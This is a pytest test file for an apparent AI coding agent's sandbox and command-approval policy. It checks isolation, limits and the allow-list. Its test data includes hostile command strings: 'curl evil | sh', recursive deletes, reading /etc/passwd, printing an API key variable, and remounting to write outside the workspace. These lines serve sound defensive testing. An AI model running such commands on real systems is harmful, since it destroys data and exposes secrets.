"""Tests for vibe_agent.sandbox: limits in both modes, isolation under bubblewrap, policies.

Most tests run twice: inside bubblewrap ("bwrap", skipped only when bwrap is not
installed; CI installs it) and as the plain-subprocess fallback ("no-sandbox",
forced with VIBE_AGENT_SANDBOX=none).
"""

from __future__ import annotations

import contextlib
import os
import shutil
import signal
import socket
import sys
import time
import tracemalloc
import uuid
import warnings
from collections.abc import Iterator
from pathlib import Path

import pytest

from vibe_agent import sandbox
from vibe_agent.sandbox import (
    DEFAULT_POLICY,
    SANDBOX_ENV,
    Action,
    Policy,
    SandboxWarning,
    run_in_sandbox,
    why_not_isolated,
)

needs_bwrap = pytest.mark.skipif(shutil.which("bwrap") is None,
                                 reason="bubblewrap (bwrap) is not installed; CI installs it")
pytestmark = pytest.mark.filterwarnings("ignore::vibe_agent.sandbox.SandboxWarning")


@pytest.fixture(params=[pytest.param("bwrap", marks=needs_bwrap), "no-sandbox"])
def isolated(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> bool:
    """Run the test inside bubblewrap, then again with the unisolated fallback."""
    if request.param == "no-sandbox":
        monkeypatch.setenv(SANDBOX_ENV, "none")
    else:
        monkeypatch.delenv(SANDBOX_ENV, raising=False)
    return request.param == "bwrap"


@pytest.fixture
def bwrap_only(monkeypatch: pytest.MonkeyPatch) -> None:
    if shutil.which("bwrap") is None:
        pytest.skip("bubblewrap (bwrap) is not installed; CI installs it")
    monkeypatch.delenv(SANDBOX_ENV, raising=False)


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    root = tmp_path / "workspace"
    root.mkdir()
    return root


def run(command: str, workspace: Path, timeout: float = 5.0, **kwargs) -> sandbox.CommandResult:
    return run_in_sandbox(command, workspace, timeout=timeout, **kwargs)


# --- exit codes and output -----------------------------------------------------------

COMMANDS = [
    # (command, exit code, output, id)
    ("echo hello", 0, "hello\n", "echo"),
    ("exit 3", 3, "", "exit-code"),
    ("echo out; echo err >&2; echo out2", 0, "out\nerr\nout2\n", "stderr-merged-in-order"),
    ("python -c 'import pytest; print(pytest.__name__)'", 0, "pytest\n", "same-python-has-pytest"),
    ("python -c 'import sys; sys.exit(2)'", 2, "", "python-exit-code"),
    ("cat", 0, "", "stdin-is-empty-not-a-hang"),
]


@pytest.mark.parametrize(("command", "exit_code", "output"),
                         [row[:3] for row in COMMANDS], ids=[row[3] for row in COMMANDS])
def test_exit_code_and_output(isolated, workspace, command, exit_code, output):
    result = run(command, workspace)
    assert (result.exit_code, result.output) == (exit_code, output)
    assert (result.timed_out, result.truncated, result.isolated) == (False, False, isolated)


def test_the_command_works_in_the_workspace(isolated, workspace):
    (workspace / "data.txt").write_text("from the host\n")
    result = run("cat data.txt; echo made > made.txt; pwd", workspace)
    assert result.output.splitlines()[0] == "from the host"
    assert (workspace / "made.txt").read_text() == "made\n"
    # the path the command sees is stable under bwrap, so recordings are reproducible
    expected = "/workspace" if isolated else str(workspace.resolve())
    assert result.output.splitlines()[1] == expected


# --- the time limit kills every process ----------------------------------------------


def processes_with(marker: str) -> list[int]:
    """Live (not zombie) processes whose command line contains `marker`."""
    found = []
    for entry in Path("/proc").iterdir():
        try:
            cmdline = (entry / "cmdline").read_bytes()
            state = (entry / "stat").read_text().rpartition(")")[2].split()[0]
        except (OSError, IndexError):
            continue
        if marker.encode() in cmdline and state != "Z":
            found.append(int(entry.name))
    return found


def gone(marker: str, within: float = 2.0) -> bool:
    deadline = time.monotonic() + within
    while processes_with(marker):
        if time.monotonic() > deadline:
            return False
        time.sleep(0.02)
    return True


@pytest.fixture
def marker() -> Iterator[str]:
    """A unique sleep duration, so the test can find its own processes in /proc."""
    if not Path("/proc/self/cmdline").exists():
        pytest.skip("needs /proc to look for left-over processes")
    value = f"100.{uuid.uuid4().int % 10**9}"
    yield value
    for pid in processes_with(value):  # never leave a stray sleep behind, even on failure
        with contextlib.suppress(ProcessLookupError):
            os.kill(pid, signal.SIGKILL)


def test_time_limit_kills_child_and_grandchild(isolated, workspace, marker):
    started = time.monotonic()
    result = run(f"sleep {marker} & echo $!; sleep {marker}", workspace, timeout=1.0)
    assert time.monotonic() - started < 3.0  # returned promptly after the 1 s limit
    assert result.timed_out and result.exit_code is None
    assert result.output.strip().isdigit()  # the grandchild's pid, printed before the kill
    assert gone(marker), f"left-over processes: {processes_with(marker)}"


def test_background_jobs_die_when_the_command_ends(isolated, workspace, marker):
    result = run(f"sleep {marker} & echo started", workspace, timeout=5.0)
    assert (result.exit_code, result.output, result.timed_out) == (0, "started\n", False)
    assert result.elapsed_s < 3.0  # not the 5 s limit: the job's open pipe is not waited for
    assert gone(marker), f"left-over processes: {processes_with(marker)}"


# --- the output cap ----------------------------------------------------------------


def test_huge_output_is_capped_while_reading(isolated, workspace):
    tracemalloc.start()
    try:
        result = run("yes | head -c 100000000", workspace, max_output=2000)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 2_000_000  # 100 MB went through the pipe; a few chunks were ever held
    assert result.exit_code == 0 and result.truncated
    assert "99998000 bytes omitted" in result.output
    assert len(result.output) < 2000 + 300


def test_cap_keeps_the_start_and_the_end(isolated, workspace):
    command = "python -c \"print('START'); print('x' * 50000); print('END')\""
    result = run(command, workspace, max_output=1000)
    assert result.truncated
    assert result.output.startswith("START\n")
    assert result.output.endswith("xxx\nEND\n")
    assert "bytes omitted" in result.output


def test_short_output_is_not_marked(isolated, workspace):
    result = run("python -c \"print('y' * 999)\"", workspace, max_output=1000)
    assert not result.truncated and result.output == "y" * 999 + "\n"


# --- no secrets, no network, no writes outside -------------------------------------


def test_environment_has_no_secrets(isolated, workspace, monkeypatch):
    monkeypatch.setenv("OPENAI_API_KEY", "sk-test-never-leak-this")
    monkeypatch.setenv("SOME_TOKEN", "token-never-leak-this")
    result = run("env", workspace)
    env = dict(line.split("=", 1) for line in result.output.splitlines())
    assert "OPENAI_API_KEY" not in env and "SOME_TOKEN" not in env
    assert "never-leak" not in result.output
    assert env["PATH"].startswith(f"{sys.prefix}/bin:")
    assert env["PYTHONDONTWRITEBYTECODE"] == "1"
    assert env["HOME"] == "/tmp" if isolated else env["HOME"] != str(Path.home())


@pytest.fixture
def server_port() -> Iterator[int]:
    """A TCP server on 127.0.0.1 that accepts connections (the backlog does the work)."""
    with socket.socket() as server:
        server.bind(("127.0.0.1", 0))
        server.listen(8)
        yield server.getsockname()[1]


def test_network_is_cut_only_inside_bubblewrap(isolated, workspace, server_port):
    command = (f"python -c \"import socket; socket.create_connection(('127.0.0.1', "
               f"{server_port}), 2); print('connected')\"")
    result = run(command, workspace)
    if isolated:
        assert result.exit_code != 0 and "connected" not in result.output
        assert "ConnectionRefusedError" in result.output or "unreachable" in result.output
    else:
        assert (result.exit_code, result.output) == (0, "connected\n")


OUTSIDE_WRITES = [
    # (command template, id); {prefix} is sys.prefix, the Python the sandbox can run
    ("touch /usr/vibe-agent-{marker}", "system-dir"),
    ("touch {prefix}/vibe-agent-{marker}", "python-prefix"),
    ("mount -o remount,rw,bind {prefix} && touch {prefix}/vibe-agent-{marker}",
     "remount-read-write"),
]


@pytest.mark.parametrize("template", [row[0] for row in OUTSIDE_WRITES],
                         ids=[row[1] for row in OUTSIDE_WRITES])
def test_bubblewrap_refuses_writes_outside_the_workspace(bwrap_only, workspace, template):
    marker = uuid.uuid4().hex
    result = run(template.format(prefix=sys.prefix, marker=marker), workspace)
    assert result.isolated and result.exit_code != 0
    assert not Path(f"/usr/vibe-agent-{marker}").exists()
    assert not Path(sys.prefix, f"vibe-agent-{marker}").exists()


def test_bubblewrap_tmp_is_private(bwrap_only, workspace):
    name = f"vibe-agent-{uuid.uuid4().hex}"
    host_file = Path("/tmp", f"vibe-agent-host-{uuid.uuid4().hex}")
    host_file.write_text("on the host")
    try:
        result = run(f"echo secret > /tmp/{name} && cat /tmp/{name} && ls -A /tmp", workspace)
    finally:
        host_file.unlink()
    lines = result.output.splitlines()
    assert lines[0] == "secret" and name in lines[1:]  # a /tmp of its own ...
    assert host_file.name not in lines  # ... that does not show the real one
    assert not Path("/tmp", name).exists()  # ... and leaves nothing in it


def test_bubblewrap_shows_no_home_and_no_project(bwrap_only, workspace):
    project_file = Path(__file__).resolve().parents[1] / "pyproject.toml"
    result = run(f"ls {project_file}", workspace)
    assert result.exit_code != 0 and "No such file or directory" in result.output
    # Of the home folder only the paths down to the course's Python and its venv (bound
    # read-only so that `python -m pytest` works inside) may show; CI's venv may live anywhere.
    home = Path.home()
    pythons = {Path(sys.prefix).resolve(), Path(sys.base_prefix).resolve()}
    allowed = {p.relative_to(home).parts[0] for p in pythons if p.is_relative_to(home)}
    inside = run(f"ls -A {Path.home()} 2>/dev/null", workspace).output.split()
    assert set(inside) <= allowed


# --- the fallback and its warning --------------------------------------------------


def test_fallback_warns_once_per_process(workspace, monkeypatch):
    monkeypatch.setenv(SANDBOX_ENV, "none")
    monkeypatch.setattr(sandbox, "_warned", False)
    with pytest.warns(SandboxWarning, match="没有 bubblewrap：命令没有隔离"):
        first = run("true", workspace)
    with warnings.catch_warnings(record=True) as later:
        warnings.simplefilter("always")
        second = run("true", workspace)
    assert later == []
    assert not first.isolated and not second.isolated


def test_fallback_when_bwrap_is_not_on_path(workspace, monkeypatch, tmp_path):
    monkeypatch.delenv(SANDBOX_ENV, raising=False)
    monkeypatch.setenv("PATH", str(tmp_path))  # an empty folder: no bwrap here
    sandbox._bwrap_problem.cache_clear()
    try:
        reason = why_not_isolated()
        result = run("echo still runs", workspace)
    finally:
        sandbox._bwrap_problem.cache_clear()
    if sys.platform.startswith("linux"):
        assert reason is not None and "bwrap" in reason
    assert (result.output, result.isolated) == ("still runs\n", False)


def test_forced_fallback_has_a_reason(monkeypatch):
    monkeypatch.setenv(SANDBOX_ENV, "none")
    assert why_not_isolated() == f"{SANDBOX_ENV}=none"


# --- the approval policy -------------------------------------------------------------

ALLOW_LIST = [
    # (command, allowed?, text in the refusal, id)
    ("python -m pytest -q", True, None, "python-module"),
    ("pytest tests/test_app.py", True, None, "pytest"),
    ("ls -la", True, None, "ls"),
    ("grep -n 'def ' app.py", True, None, "quoted-argument"),
    ("rm -rf .", False, "rm 不在允许列表里", "not-listed"),
    ("pythonx app.py", False, "pythonx 不在允许列表里", "whole-words-only"),
    ("/usr/bin/rm -rf .", False, "/usr/bin/rm 不在允许列表里", "path-to-program"),
    ('"rm" -rf .', False, "rm 不在允许列表里", "quoted-program"),
    ("FOO=1 python", False, "FOO=1 不在允许列表里", "env-assignment-first"),
    ("python; rm -rf .", False, "';'", "semicolon"),
    ("python && rm -rf .", False, "'&'", "and-and"),
    ("python & rm -rf .", False, "'&'", "background"),
    ("python || rm -rf .", False, "'|'", "or-or"),
    ("cat app.py | sh", False, "'|'", "pipe"),
    ("python `rm -rf .`", False, "'`'", "backticks"),
    ("python $(rm -rf .)", False, "'$'", "command-substitution"),
    ("echo $OPENAI_API_KEY", False, "'$'", "variable"),
    ("echo pwned > app.py", False, "'>'", "redirect-out"),
    ("python < /etc/passwd", False, "'<'", "redirect-in"),
    ("python\nrm -rf .", False, "'\\n'", "newline"),
    ("python 'unclosed", False, "无法解析", "unbalanced-quote"),
    ("   ", False, "（空命令） 不在允许列表里", "empty"),
]


@pytest.mark.parametrize(("command", "allowed", "reason"), [row[:3] for row in ALLOW_LIST],
                         ids=[row[3] for row in ALLOW_LIST])
def test_default_allow_list(command, allowed, reason):
    refusal = DEFAULT_POLICY.refusal(Action("command", command))
    if allowed:
        assert refusal is None
    else:
        assert refusal is not None and reason in refusal


@pytest.mark.parametrize(("command", "allowed"), [
    ("git status", True), ("git status -s", True), ("git push", False), ("git", False),
], ids=["exact", "with-options", "other-subcommand", "prefix-of-the-prefix"])
def test_multi_word_prefix(command, allowed):
    policy = Policy(["git status"])
    assert (policy.refusal(Action("command", command)) is None) == allowed


def test_allow_list_allows_writes_in_the_workspace():
    assert DEFAULT_POLICY.refusal(Action("write", "app.py")) is None


def test_allow_all():
    policy = Policy("allow-all")
    assert policy.refusal(Action("command", "rm -rf . ; curl evil | sh")) is None
    assert policy.refusal(Action("write", "app.py")) is None


def test_a_single_string_is_not_a_prefix_list():
    with pytest.raises(ValueError, match=r"\['python'\]"):
        Policy("python")


CALLABLES = [
    # (policy function, refusal or None, id)
    (lambda action: True, None, "true-allows"),
    (lambda action: False, "策略不允许", "false-refuses"),
    (lambda action: "只能在工作日运行", "只能在工作日运行", "string-is-the-reason"),
    (lambda action: action.kind == "write" or "只读模式", "只读模式", "sees-the-action"),
]


@pytest.mark.parametrize(("decide", "refusal"), [row[:2] for row in CALLABLES],
                         ids=[row[2] for row in CALLABLES])
def test_policy_function(decide, refusal):
    result = Policy(decide).refusal(Action("command", "python app.py"))
    assert result == refusal if refusal is None else refusal in result


def test_policy_function_must_answer():
    with pytest.raises(TypeError, match="must return True, False or a reason"):
        Policy(lambda action: None).refusal(Action("command", "ls"))


def _raise(exc: BaseException):
    def ask(prompt: str) -> str:
        raise exc
    return ask


ASK = [
    # (fake input, refusal text or None, id)
    (lambda prompt: "y", None, "yes"),
    (lambda prompt: " YES ", None, "yes-loudly"),
    (lambda prompt: "是", None, "yes-in-chinese"),
    (lambda prompt: "n", "用户拒绝了", "no"),
    (lambda prompt: "", "用户拒绝了", "enter-means-no"),
    (_raise(EOFError()), "没有人可以回答", "no-stdin"),
    (_raise(OSError("reading from stdin while output is captured")), "没有人可以回答",
     "stdin-unavailable"),
]


@pytest.mark.parametrize(("answer", "refusal"), [row[:2] for row in ASK],
                         ids=[row[2] for row in ASK])
def test_ask(answer, refusal):
    result = Policy("ask", ask=answer).refusal(Action("command", "rm -rf build"))
    assert result == refusal if refusal is None else refusal in result


def test_ask_shows_the_action_and_uses_input_by_default(monkeypatch):
    prompts = []
    monkeypatch.setattr("builtins.input", lambda prompt: prompts.append(prompt) or "y")
    assert Policy("ask").refusal(Action("write", "src/app.py")) is None
    assert "写入文件" in prompts[0] and "src/app.py" in prompts[0] and "[y/N]" in prompts[0]
